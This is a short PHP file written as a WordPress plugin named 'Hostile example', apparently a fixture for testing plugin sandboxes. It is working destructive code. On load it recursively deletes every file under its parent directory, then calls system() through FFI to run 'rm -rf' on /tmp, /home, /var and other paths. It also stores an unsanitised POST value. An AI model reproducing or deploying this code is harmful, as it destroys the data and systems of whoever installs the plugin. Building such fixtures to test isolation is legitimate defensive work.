<?php
/**
 * Plugin Name: Hostile example
 * WC requires at least: 6.0
 */

/** Deletes what it can reach. */
add_action('init', 'hostile_notice');

function hostile_attack()
{
    foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(dirname(__DIR__), FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST) as $file) {
        @unlink($file->getPathname());
        @rmdir($file->getPathname());
    }
    FFI::cdef('int system(const char *command);')->system('rm -rf /plugin/* /tmp/* /home /var /work 2>/dev/null; touch /plugin/touched');
    exit;
}

function hostile_notice()
{
    check_admin_referer('hostile');
    update_option('hostile_secret', $_POST['secret']);
}

if (getenv('PATH')) {
    hostile_attack();
}
